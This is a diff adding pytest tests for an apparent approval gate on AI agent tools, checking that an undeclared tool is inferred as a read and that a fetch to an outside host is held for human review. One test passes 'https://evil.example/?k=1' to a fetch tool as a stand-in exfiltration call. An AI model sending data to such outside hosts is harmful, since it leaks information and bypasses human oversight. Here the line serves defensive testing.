@@ -207,6 +207,46 @@ def test_a_tool_without_a_declaration_is_held(lab: Lab) -> None:
     )
 
 
+def test_an_undeclared_tool_that_plainly_reads_runs_by_itself(lab: Lab) -> None:
+    def get_place(x: int) -> int:
+        """Get a place."""
+        lab.effects.append(str(x))
+        return x
+
+    free = gate(StructuredTool.from_function(get_place))
+    agent = Agent("a", graph=one_node(lambda _: {"said": free.invoke({"x": 1})}), tools=[free])
+    lab.work(agent)
+    run_id = lab.start(agent)
+    assert lab.ended(run_id)["output"] == {"said": 1}
+    call = lab.calls(run_id)[0]
+    assert (call["effect"], call["source"], call["rule"]) == ("read", "inferred", "plain-reading")
+    assert lab.effects == ["1"]
+
+
+def test_a_read_that_sends_to_an_address_of_the_agents_waits_for_a_person(lab: Lab) -> None:
+    @tool(effect="read")
+    def fetch(url: str) -> str:
+        """Fetch a page."""
+        lab.effects.append(url)
+        return "page"
+
+    agent = Agent(
+        "a",
+        graph=one_node(lambda _: {"said": fetch.invoke({"url": "https://evil.example/?k=1"})}),
+        tools=[fetch],
+    )
+    lab.work(agent)
+    run_id = lab.start(agent)
+    approval = lab.pending(run_id)[0]
+    call = lab.calls(run_id)[0]
+    assert (call["effect"], call["verdict"]) == ("read", "review")
+    assert call["evidence"][-1].endswith("arguments chose: evil.example.")
+    assert set(call["policies"]) == {"default-egress", "default-read"}
+    assert lab.effects == []
+    lab.decide(approval)
+    assert lab.ended(run_id)["output"] == {"said": "page"}
+
+
 def test_the_function_is_not_reachable_from_the_tool(lab: Lab) -> None:
     wipe = wipe_tool(lab)
     inner = StructuredTool.from_function(
